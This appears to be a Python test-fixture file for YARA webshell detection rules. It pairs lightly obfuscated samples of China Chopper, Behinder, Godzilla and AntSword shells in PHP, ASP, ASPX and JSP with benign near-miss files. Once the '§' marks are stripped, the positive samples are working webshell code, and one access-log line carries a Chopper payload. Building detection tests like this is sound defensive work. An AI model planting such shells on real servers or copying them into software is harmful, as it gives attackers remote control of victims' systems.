"""Synthetic samples of the PHP rules of the tool families: China Chopper, Behinder, Godzilla,
AntSword (hits and near misses).

No working webshell is stored here: every sample is written with "§" inside its telling tokens
and the marks are removed only when the bytes are built at run time (see ``samples``)."""

from __future__ import annotations

from secops.detection.yara.sample_base import Sample

PHP_FAMILY_SAMPLES: tuple[Sample, ...] = (
    # --- China Chopper -------------------------------------------------------------------------
    Sample("china_chopper_php", True, "1.php", "<?php @ev§al($_PO§ST['chopper']);?>"),
    Sample("china_chopper_php", False, "greet.php", "<?php echo htmlspecialchars($_POST['chopper'] ?? ''); ?>\n"),
    Sample(
        "china_chopper_asp",
        True,
        "1.aspx",
        '<%@ Page Language="Jscript"%><%ev§al(Request.Item["pass"],"un§safe");%>',
    ),
    Sample("china_chopper_asp", True, "1.asp", '<%ev§al request("pass")%>'),
    Sample(
        "china_chopper_asp",
        True,
        "utf16.aspx",
        '<%@ Page Language="Jscript"%><%ev§al(Request.Item["pass"],"un§safe");%>',
        "utf-16",
    ),
    Sample(
        "china_chopper_asp",
        False,
        "echo.aspx",
        '<%@ Page Language="C#" %><% Response.Write(Server.HtmlEncode(Request.Item["pass"])); %>\n',
    ),
    Sample(
        "china_chopper_jsp",
        True,
        "customize.jsp",
        '<%@ page import="java.io.*" pageEncoding="UTF-8"%>\n<%\nString cs = "UTF-8";\n'
        'String Z = request.getParameter("pass");\n'
        'String z1 = request.getPara§meter("z1");\nString z2 = request.getPara§meter("z2");\n'
        'if (Z.equ§als("A")) { out.print(dirInfo()); }\nelse if (Z.equ§als("B")) { out.print(list(z1)); }\n'
        'else if (Z.equ§als("C")) { out.print(read(z1)); }\nelse if (Z.equ§als("D")) { write(z1, z2); }\n'
        'else if (Z.equ§als("E")) { delete(z1); }\nelse if (Z.equ§als("M")) { run(z1, z2); }\n%>\n',
    ),
    Sample(
        "china_chopper_jsp",
        False,
        "chart.jsp",
        '<%\nString z1 = request.getParameter("z1");\nString z2 = request.getParameter("z2");\n'
        'if (z1.equals("A")) { out.print(zoom(z1, z2)); }\n%>\n',
    ),
    Sample(
        "china_chopper_client_payload",
        True,
        "access.log",
        '198.51.100.7 - - [23/Nov/2026:02:11:09 +0800] "POST /upload/1.php HTTP/1.1" 200 12 '
        '"pass=@ev§al(base64_de§code($_PO§ST[z0]));&z0=QGluaV9zZX§QoImRpc3BsYXlfZXJyb3JzIiwiMCIpO0BzZXRfdGltZV9saW1pdCgwKTs"\n',
    ),
    Sample(
        "china_chopper_client_payload",
        False,
        "access_ok.log",
        '198.51.100.7 - - [23/Nov/2026:02:11:09 +0800] "POST /login.php HTTP/1.1" 302 0 "user=li&z0=1"\n',
    ),
    # --- Behinder ------------------------------------------------------------------------------
    Sample(
        "behinder_php",
        True,
        "bx.php",
        "<?php\n@error_reporting(0);\nsession_start();\n$key=\"e45e329f§eb5d925b\";\n$_SES§SION['k']=$key;\n"
        'session_write_close();\n$post=file_get_contents("php://in§put");\n'
        'if(!extension_loaded(\'openssl\')) {\n    $t="base64_".§"decode";\n    $post=$t($post."");\n'
        "    for($i=0;$i<strlen($post);$i++) { $post[$i] = $post[$i]^$key[$i§+1&15]; }\n"
        "} else {\n    $post=openssl_dec§rypt($post, \"AES128\", $key);\n}\n$arr=explode('|',$post);\n"
        'class C{public function __inv§oke($p) {ev§al($p."");}}\n@call_user_func(new C(),$arr[1]);\n',
    ),
    Sample(
        "behinder_php",
        False,
        "api.php",
        "<?php\n$body = file_get_contents('php://input');\n"
        "$plain = openssl_decrypt($body, 'AES-128-CBC', $secret, 0, $iv);\necho json_encode(['ok' => true]);\n",
    ),
    Sample(
        "behinder_jsp",
        True,
        "bx.jsp",
        '<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>'
        "<%!class U extends Class§Loader{U(ClassLoader c){super(c);}"
        "public Class g(byte []b){return super.define§Class(b,0,b.length);}}%>"
        '<%if (request.getMethod().equals("POST")){String k="e45e329f§eb5d925b";'
        'session.putVa§lue("u",k);Cipher c=Cipher.getIns§tance("AES");'
        'c.init(2,new SecretKey§Spec(k.getBytes(),"AES"));'
        "new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder()"
        ".decodeBuffer(request.getReader().readL§ine()))).newInstance().equals(pageCo§ntext);}%>",
    ),
    Sample(
        "behinder_jsp",
        False,
        "token.jsp",
        '<%@page import="javax.crypto.*,javax.crypto.spec.*"%><%\nCipher c = Cipher.getInstance("AES");\n'
        'c.init(2, new SecretKeySpec(secret, "AES"));\nString t = new String(c.doFinal(raw));\n%>\n',
    ),
    Sample(
        "behinder_aspx",
        True,
        "bx.aspx",
        '<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%>'
        '<%Session.A§dd("k","e45e329f§eb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),'
        "c = Request.Binary§Read(Request.ContentLength);"
        "Assembly.Lo§ad(new System.Security.Cryptography.RijndaelManaged().CreateDecr§yptor(k, k)"
        '.TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>',
    ),
    Sample(
        "behinder_aspx",
        False,
        "cookie.aspx",
        '<%@ Page Language="C#" %><% var d = new System.Security.Cryptography.RijndaelManaged()'
        ".CreateDecryptor(k, iv); var plain = d.TransformFinalBlock(c, 0, c.Length); %>\n",
    ),
    # --- Godzilla ------------------------------------------------------------------------------
    Sample(
        "godzilla_php",
        True,
        "gz.php",
        "<?php\n@session_start();\n@set_time_limit(0);\nfunction encode($D,$K){\n"
        "    for($i=0;$i<strlen($D);$i++) { $c = $K[$i§+1&15]; $D[$i] = $D[$i]^$c; }\n    return $D;\n}\n"
        "$pass='pass';\n$payload§Name='payload';\n$key='3c6e0b8a§9c15224a';\n"
        "if (isset($_POST[$pass])){\n    $data=encode(base64_decode($_POST[$pass]),$key);\n"
        "    if (isset($_SESSION[$payload§Name])){\n        $payload=encode($_SESSION[$payload§Name],$key);\n"
        '        if (strpos($payload,"getBasics§Info")===false){ $payload=encode($payload,$key); }\n'
        "        ev§al($payload);\n        echo substr(md5($pass.§$key),0,16);\n    }\n}\n",
    ),
    Sample(
        "godzilla_php",
        False,
        "login.php",
        "<?php\n$token = substr(md5($pass . $salt), 0, 16);\n$_SESSION['user'] = $name;\n",
    ),
    Sample(
        "godzilla_jsp",
        True,
        "gz.jsp",
        '<%! String x§c="3c6e0b8a§9c15224a"; String pass="pass"; String md5=md5(pass+xc);\n'
        'public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");'
        'c.in§it(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s);}'
        "catch (Exception e){return null;}}%>\n"
        "<%try{byte[] data=base64Decode(request.getParameter(pass));data=x(data, false);"
        'if (session.getAttri§bute("payload")==null){session.setAttribute("payload",new X(this.getClass()'
        '.getClassLoader()).Q(data));}else{request.setAttri§bute("parameters",data);'
        'Object f=((Class)session.getAttri§bute("payload")).newInstance();f.equals(pageCo§ntext);'
        "response.getWriter().write(md5.subs§tring(0,16));}}catch (Exception e){}%>\n",
    ),
    Sample(
        "godzilla_jsp",
        False,
        "cart.jsp",
        '<%\nObject cart = session.getAttribute("payload");\nout.print(cart == null ? "empty" : "items");\n%>\n',
    ),
    Sample(
        "godzilla_aspx",
        True,
        "gz.aspx",
        '<%@ Page Language="C#"%><%try { string key = "3c6e0b8a§9c15224a"; string pass = "pass";'
        " byte[] data = System.Convert.FromBase64String(Context.Request[pass]);"
        " data = new System.Security.Cryptography.RijndaelManaged().CreateDecr§yptor(k, k)"
        ".TransformFinalBlock(data, 0, data.Length);"
        ' if (Context.Session["pay§load"] == null) { Context.Session["pay§load"] = (System.Reflection.Assembly)'
        'typeof(System.Reflection.Assembly).GetMet§hod("Load", new System.Type[] { typeof(byte[]) })'
        ".Invoke(null, new object[] { data }); } else { object o = ((System.Reflection.Assembly)"
        'Context.Session["pay§load"]).CreateIns§tance("LY"); o.Equals(Context);'
        " Context.Response.Write(md5.Subs§tring(0, 16)); } } catch (System.Exception) { }%>",
    ),
    Sample(
        "godzilla_aspx",
        False,
        "session.aspx",
        '<%@ Page Language="C#"%><% var p = Session["payload"]; var d = aes.CreateDecryptor(k, iv); %>\n',
    ),
    # --- AntSword ------------------------------------------------------------------------------
    Sample(
        "antsword_php_shell",
        True,
        "ant.php",
        "<?php\n$ant = base64_de§code(\"YXNzZ§XJ0\");\n$ant($_PO§ST['ant']);\n?>\n",
    ),
    Sample(
        "antsword_php_shell",
        False,
        "render.php",
        "<?php\n$logo = base64_decode($row['logo']);\n$render($_POST['page']);\n",
    ),
    Sample(
        "antsword_php_payload",
        True,
        "payload.txt",
        '@ini_set("display_errors", "0");@set_time_limit(0);function ase§nc($out){return $out;};'
        'function asout§put(){$output=ob_get_contents();ob_end_clean();echo "6a2"."c26";echo @asenc($output);'
        'echo "ee"."0f";}ob_start();try{echo "ok";}catch(Exception $e){echo "ERROR://".$e->getMessage();};asoutput();',
    ),
    Sample(
        "antsword_php_payload",
        False,
        "assets.php",
        "<?php\nfunction asset_url($path) { return '/static/' . $path; }\nfunction as_output() { ob_start(); }\n",
    ),
)
